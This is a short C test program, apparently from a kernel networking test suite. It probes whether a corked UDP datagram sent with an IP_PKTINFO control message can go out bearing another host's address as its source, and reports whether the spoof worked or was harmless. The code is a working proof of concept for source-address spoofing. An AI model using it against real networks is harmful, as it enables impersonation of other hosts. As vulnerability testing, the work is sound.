// SPDX-License-Identifier: GPL-2.0-only
// A datagram in parts is routed when the first part comes, and sent with the last
// one: the source of the first part, once the socket is connected, is not asked.
// Victims: host other
#include <netinet/udp.h>

#include "net.h"

int main(void)
{
	char control[CMSG_SPACE(sizeof(struct in_pktinfo))] = "", text = 'x';
	struct in_pktinfo info = { 0 };
	struct iovec iov = { &text, 1 };
	struct msghdr msg = {
		.msg_iov = &iov,
		.msg_iovlen = 1,
		.msg_control = control,
		.msg_controllen = sizeof(control),
	};
	struct cmsghdr *cmsg = CMSG_FIRSTHDR(&msg);
	int sender = socket(AF_INET, SOCK_DGRAM, 0), receiver;
	struct sockaddr_in at;

	receiver = own_receiver(&at);
	NEED(!connect(sender, (void *)&at, sizeof(at)));
	set(sender, IPPROTO_UDP, UDP_CORK, 1);
	info.ipi_spec_dst.s_addr = inet_addr(fact("IP"));
	cmsg->cmsg_level = IPPROTO_IP;
	cmsg->cmsg_type = IP_PKTINFO;
	cmsg->cmsg_len = CMSG_LEN(sizeof(info));
	memcpy(CMSG_DATA(cmsg), &info, sizeof(info));
	if (sendmsg(sender, &msg, 0) != 1)
		refused("sendmsg");
	NEED(send(sender, "y", 1, 0) == 1);
	set(sender, IPPROTO_UDP, UDP_CORK, 0);
	if (from_victim(receiver))
		worked("a datagram comes from the victim's address");
	harmless("the datagram is from another address");
}
